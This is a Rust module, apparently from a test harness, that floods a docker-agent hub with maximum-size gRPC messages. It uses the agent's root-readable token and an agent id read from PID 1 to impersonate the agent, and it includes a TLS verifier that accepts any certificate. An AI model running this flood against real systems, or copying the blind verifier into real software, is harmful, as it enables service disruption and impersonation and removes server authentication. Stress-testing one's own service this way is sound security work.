//! An authenticated flood: with the agent's own token (which a task running as root can read), open
//! sessions as the agent and send the largest messages the hub decodes, as fast as it takes them.
//! Half the sessions open with a hello (another process of a connected agent), half with a huge
//! message instead of one.

use std::collections::BTreeMap;
use std::process::ExitCode;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use docker_agent_proto::v1::agent_message::Msg;
use docker_agent_proto::v1::agent_service_client::AgentServiceClient;
use docker_agent_proto::v1::{AgentMessage, Hello, OutputChunk, Stream};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use tonic::transport::{Certificate, Channel, ClientTlsConfig, Endpoint, Uri};

use crate::args::Target;

const TOKEN: &str = "/etc/docker-agent/token";
const CA: &str = "/etc/docker-agent/ca.pem";
const SERVER_NAME: &str = "host.docker.internal";

/// The agent id from PID 1's command line (`--agent-id ID`).
fn agent_id() -> anyhow::Result<String> {
    let cmdline = std::fs::read("/proc/1/cmdline").context("failed to read /proc/1/cmdline")?;
    let args: Vec<String> = cmdline
        .split(|b| *b == 0)
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect();
    args.windows(2)
        .find(|w| w[0] == "--agent-id")
        .map(|w| w[1].clone())
        .context("PID 1 has no --agent-id")
}

async fn channel(target: &Target, ca: &str) -> anyhow::Result<Channel> {
    let tls = ClientTlsConfig::new()
        .ca_certificate(Certificate::from_pem(ca))
        .domain_name(SERVER_NAME);
    if let Some(path) = target.socket.clone() {
        let connector = tower::service_fn(move |_: Uri| {
            let path = path.clone();
            async move {
                let stream = tokio::net::UnixStream::connect(path).await?;
                Ok::<_, std::io::Error>(hyper_util::rt::TokioIo::new(stream))
            }
        });
        return Ok(Endpoint::from_static("https://host.docker.internal:1")
            .tls_config(tls)?
            .connect_timeout(Duration::from_secs(5))
            .connect_with_connector(connector)
            .await?);
    }
    let addr = crate::resolve(target.tcp.as_deref().unwrap_or_default())?;
    Ok(Endpoint::from_shared(format!("https://{addr}"))?
        .tls_config(tls)?
        .connect_timeout(Duration::from_secs(5))
        .connect()
        .await?)
}

pub async fn run(target: &Target, message_bytes: usize, seconds: u64) -> anyhow::Result<ExitCode> {
    let token = std::fs::read_to_string(TOKEN)
        .with_context(|| format!("failed to read {TOKEN} (tasks must run as root)"))?;
    let ca = std::fs::read_to_string(CA).with_context(|| format!("failed to read {CA}"))?;
    let agent_id = agent_id()?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(seconds);
    let payload = bytes::Bytes::from(vec![b'x'; message_bytes.saturating_sub(256)]);
    let mut statuses: BTreeMap<String, u64> = BTreeMap::new();
    let (mut sessions, mut connect_errors, mut transport_errors, mut sent) =
        (0u64, 0u64, 0u64, 0u64);
    let mut client: Option<AgentServiceClient<Channel>> = None;
    while tokio::time::Instant::now() < deadline {
        let mut c = match client.take() {
            Some(c) => c,
            None => match channel(target, &ca).await {
                Ok(ch) => {
                    AgentServiceClient::new(ch).max_encoding_message_size(message_bytes + 1024)
                }
                Err(_) => {
                    connect_errors += 1;
                    tokio::time::sleep(Duration::from_millis(20)).await;
                    continue;
                }
            },
        };
        sessions += 1;
        let big = AgentMessage {
            msg: Some(Msg::Output(OutputChunk {
                task_id: format!("{:032x}", rand::random::<u128>()),
                stream: Stream::Stdout as i32,
                offset: 0,
                data: payload.clone(),
            })),
        };
        let first = if sessions % 2 == 0 {
            AgentMessage {
                msg: Some(Msg::Hello(Hello {
                    agent_id: agent_id.clone(),
                    protocol_version: docker_agent_proto::PROTOCOL_VERSION,
                    instance_id: format!("{:032x}", rand::random::<u128>()),
                    ..Default::default()
                })),
            }
        } else {
            big.clone()
        };
        let messages = futures::stream::iter([first, big.clone(), big]);
        let mut request = tonic::Request::new(messages);
        let metadata = request.metadata_mut();
        metadata.insert(docker_agent_proto::AGENT_ID_HEADER, agent_id.parse()?);
        metadata.insert("authorization", format!("Bearer {}", token.trim()).parse()?);
        sent += 3 * message_bytes as u64;
        match c.session(request).await {
            Ok(mut response) => {
                // Accepted (it never should be): drain until the hub ends it.
                while let Ok(Some(_)) = response.get_mut().message().await {}
                *statuses.entry("accepted".into()).or_default() += 1;
                client = Some(c);
            }
            Err(status)
                if matches!(
                    status.code(),
                    tonic::Code::Unavailable | tonic::Code::Unknown | tonic::Code::Internal
                ) =>
            {
                // The connection went: cut off. Dial again, as an attacker would.
                transport_errors += 1;
            }
            Err(status) => {
                *statuses.entry(format!("{:?}", status.code())).or_default() += 1;
                client = Some(c);
            }
        }
    }
    let statuses: Vec<String> = statuses.iter().map(|(k, v)| format!("{k:?}:{v}")).collect();
    println!(
        "{{\"sessions\":{sessions},\"connect_errors\":{connect_errors},\"transport_errors\":{transport_errors},\"bytes_offered\":{sent},\"statuses\":{{{}}}}}",
        statuses.join(",")
    );
    Ok(ExitCode::SUCCESS)
}

/// A TLS client that completes handshakes without checking the server: an attacker's, which only
/// wants to hold connections.
pub(crate) fn blind_tls() -> rustls::ClientConfig {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_safe_default_protocol_versions()
        .expect("the default protocol versions")
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Blind(provider)))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    config
}

#[derive(Debug)]
struct Blind(Arc<rustls::crypto::CryptoProvider>);

impl ServerCertVerifier for Blind {
    fn verify_server_cert(
        &self,
        _end_entity: &CertificateDer<'_>,
        _intermediates: &[CertificateDer<'_>],
        _server_name: &ServerName<'_>,
        _ocsp_response: &[u8],
        _now: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _message: &[u8],
        _cert: &CertificateDer<'_>,
        _dss: &rustls::DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _message: &[u8],
        _cert: &CertificateDer<'_>,
        _dss: &rustls::DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}
